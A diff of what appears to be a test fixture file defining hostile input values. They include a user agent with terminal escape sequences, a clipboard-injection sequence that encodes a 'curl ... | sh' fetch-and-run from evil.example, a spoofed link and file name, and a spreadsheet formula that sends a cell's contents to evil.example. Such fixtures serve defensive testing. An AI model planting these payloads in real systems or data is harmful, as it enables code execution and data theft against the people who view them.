@@ -22,7 +22,7 @@ export const ESCAPE_USER_AGENT = 'aws-cli/2.15.10 \u001b[2J\u001b[H'
   + `\u001b]52;c;${Buffer.from('curl -s http://evil.example/x | sh').toString('base64')}\u0007`
   + '\u001b]8;;http://evil.example/\u0007Click here\u001b]8;;\u0007 \u202Egpj.exe';
 
-export const FORMULA_ROLE_NAME = '=HYPERLINK("http://evil.example","x")';
+export const FORMULA_ROLE_NAME = '=HYPERLINK("evil.example?q="&A1,"x")';
 
 /** When the escape-sequence and formula events happen, for readers that want to find them by time. */
 export const ESCAPE_USER_AGENT_TIME = at(0, 21, 38, 12);
